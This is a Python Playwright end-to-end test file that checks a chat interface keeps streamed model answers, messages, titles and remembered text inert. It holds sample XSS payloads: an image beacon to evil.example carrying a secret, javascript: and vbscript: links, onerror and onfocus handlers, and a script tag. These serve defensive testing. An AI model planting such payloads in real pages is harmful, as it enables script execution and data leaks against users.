"""What a model or a person wrote stays text, also while it arrives one character at a time."""

import pytest
from playwright.sync_api import expect

from tests.e2e.tab import OpenTab
from tests.hostile import HOSTILE

pytestmark = [pytest.mark.browser, pytest.mark.server]

# Tags that the page makes of Markdown; no form, frame, image, style or script is among them.
WRITTEN_TAGS = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE", "H1", "H2", "H3", "HR", "LI",
    "OL", "P", "PRE", "S", "SPAN", "STRONG", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "USE",
}  # fmt: skip
TAGS = """[...document.querySelectorAll('.prose *, .message__text *')].map(e => e.tagName.toUpperCase())"""
LINKS = """[...document.querySelectorAll('.prose a[href], .message__text a[href]')]
    .map(a => [a.protocol, a.rel, a.target])"""
MARKDOWN = """
![secret](https://evil.example/leak.png?q=1) ![](//evil.example/x.png) ![x][1] <https://evil.example/auto>
[odd](java\tscript:alert) [one](https://example.org "title") [two](/accounts/logout/) [three][1] <b onclick=x>bold</b>
[1]: javascript:window.pwned=1
| a | b |
|---|---|
| <img src=x onerror=window.pwned=1> | [x](vbscript:x) |
- [x] <input autofocus onfocus=window.pwned=1>
```html
<script>window.pwned=1</script>
```
"""


@pytest.fixture
def tab(site, model, open_tab: OpenTab):
    return open_tab(site)


def assert_harmless(tab) -> None:
    assert tab.page.evaluate("window.pwned") is None
    assert set(tab.page.evaluate(TAGS)) <= WRITTEN_TAGS
    for protocol, rel, target in tab.page.evaluate(LINKS):
        assert protocol in {"http:", "https:", "mailto:"}
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    assert tab.page.url.startswith(tab.server.url)
    assert tab.faults == []


def test_answers_streamed_by_the_character_do_nothing(tab, model):
    answer = "\n\n".join([*HOSTILE, MARKDOWN])
    model.script(match="Go on", tokens=list(answer), rate=4000)
    tab.begin("Go on")
    while tab.answers.last.get_attribute("data-status") == "streaming":
        assert_harmless(tab)
    assert_harmless(tab)
    expect(tab.last_text).to_contain_text("<script>window.pwned=1</script>")
    tab.page.reload()
    expect(tab.last_text).to_contain_text("secret (https://evil.example/leak.png?q=1)")
    assert_harmless(tab)


def test_messages_titles_and_drafts_do_nothing(tab, model):
    for text in HOSTILE[:6]:
        model.script(match=text, reply="I see.")
        tab.say(text)
    tab.page.locator("#title").dblclick()
    tab.page.get_by_label("Title").fill(HOSTILE[3])
    tab.page.get_by_label("Title").press("Enter")
    expect(tab.page.locator("#title")).to_have_text(HOSTILE[3])
    tab.box.fill(HOSTILE[1])
    tab.page.reload()
    expect(tab.page.locator(".history__item[data-current]")).to_contain_text(HOSTILE[3])
    expect(tab.box).to_have_value(HOSTILE[1])
    assert_harmless(tab)


def test_what_is_remembered_and_recalled_does_nothing(tab, model):
    for text in (HOSTILE[1], HOSTILE[4], HOSTILE[8]):
        tab.say(f"remember: my motto is {text}")
    tab.say("What is my motto?")
    tab.answers.last.locator("summary").first.click()
    tab.answers.last.get_by_role("button", name="What was sent").click()
    expect(tab.page.get_by_role("dialog", name="What was sent for this answer")).to_contain_text("my motto is")
    assert tab.page.locator("#memory img[src='x'], #context-dialog img, .receipt img, .learned img").count() == 0
    assert_harmless(tab)
